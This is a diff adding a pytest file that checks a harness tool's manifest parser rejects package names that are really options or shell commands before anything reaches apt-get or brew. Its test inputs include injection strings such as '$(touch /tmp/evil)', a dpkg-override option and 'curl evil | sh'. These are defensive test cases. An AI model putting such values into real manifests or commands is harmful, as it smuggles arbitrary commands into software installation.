@@ -1,0 +1,79 @@
+"""What ``harness doctor --install`` hands an installer: package names its manifest's parser has
+checked against the installer's grammar, after ``--``, and nothing else. A manifest's text that is
+an option, or a command line, never reaches apt-get or brew: it is that port's manifest error."""
+
+from __future__ import annotations
+
+import os
+import sys
+from pathlib import Path
+
+import pytest
+
+from conftest import FAKE_PORTS, harness, suite
+from harness.discover import MANIFEST, load_port
+
+MISSING = (FAKE_PORTS / "missing-interpreter" / MANIFEST).read_text()
+
+
+def stubbed_installers(tmp_path: Path) -> tuple[str, Path]:
+    """A PATH whose apt-get and sudo only write down how they were called, and that file."""
+    stubs, calls = tmp_path / "stubs", tmp_path / "calls"
+    stubs.mkdir()
+    for name in ("apt-get", "sudo", "brew"):
+        (stubs / name).write_text(f'#!/bin/sh\necho "{name} $*" >> {calls}\n' + ('exec "$@"\n' if name == "sudo" else ""))
+        (stubs / name).chmod(0o755)
+    return f"{stubs}{os.pathsep}{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}", calls
+
+
+def port_needing(tmp_path: Path, name: str, packages: str, key: str = "debian") -> Path:
+    folder = tmp_path / "fakes" / name
+    folder.mkdir(parents=True)
+    (folder / MANIFEST).write_text(MISSING.replace('install = "apt-get install hanoi-interpreter"', f"{key} = {packages!r}"))
+    return folder
+
+
+@pytest.mark.parametrize(
+    ("key", "text"),
+    [
+        ("debian", "-oDir::Bin::dpkg=/tmp/evil.sh"),
+        ("debian", "hanoi-tool --allow-unauthenticated"),
+        ("debian", "hanoi-tool;touch /tmp/evil"),
+        ("debian", "$(touch /tmp/evil)"),
+        ("homebrew", "--HEAD"),
+        ("homebrew", "tool && curl evil | sh"),
+    ],
+)
+def test_a_package_that_is_no_package_name_is_the_ports_manifest_error_naming_the_key(tmp_path, key, text):
+    port = load_port(port_needing(tmp_path, "option", text, key) / MANIFEST)
+    assert port.manifest_error is not None and f"'{key}' names packages" in port.manifest_error, port.manifest_error
+    assert port.requires == ()
+
+
+@pytest.mark.parametrize(
+    ("key", "text"), [("debian", "swi-prolog-nox"), ("debian", "g++ libc6-dev"), ("homebrew", "python@3.12"), ("homebrew", "homebrew/core/gcc")],
+)
+def test_real_package_names_are_taken(tmp_path, key, text):
+    port = load_port(port_needing(tmp_path, "fine", text, key) / MANIFEST)
+    assert port.manifest_error is None
+    assert getattr(port.requires[0], key) == text
+
+
+def test_an_executable_that_is_a_path_or_an_option_is_refused(tmp_path):
+    folder = port_needing(tmp_path, "path", "hanoi-tool")
+    (folder / MANIFEST).write_text((folder / MANIFEST).read_text().replace('executable = "hanoi-interpreter-nobody-has"', 'executable = "../../bin/evil"'))
+    assert "'executable' is a program's name" in (load_port(folder / MANIFEST).manifest_error or "")
+
+
+def test_doctor_install_passes_names_after_a_double_dash_and_never_a_manifests_option(tmp_path):
+    port_needing(tmp_path, "lacking", "hanoi-interpreter")
+    port_needing(tmp_path, "option", "-oDir::Bin::dpkg=/tmp/evil.sh")
+    root = suite(tmp_path, "lacking", "option", real=(), fakes_from=tmp_path / "fakes")
+    path, calls = stubbed_installers(tmp_path)
+    done = harness("--root", str(root), "doctor", "--install", env={"PATH": path})
+    installs = [line.removeprefix("sudo ") for line in calls.read_text().splitlines() if "apt-get install" in line]
+    assert installs == ["apt-get install -y -qq -- hanoi-interpreter"], calls.read_text()
+    assert "evil" not in calls.read_text()
+    assert done.returncode == 1 and "Traceback" not in done.stderr
+    listed = harness("--root", str(root), "list", "--format", "plain", "--port", "option")
+    assert listed.returncode == 1 and "'debian' names packages" in listed.stdout + listed.stderr, listed.stdout + listed.stderr
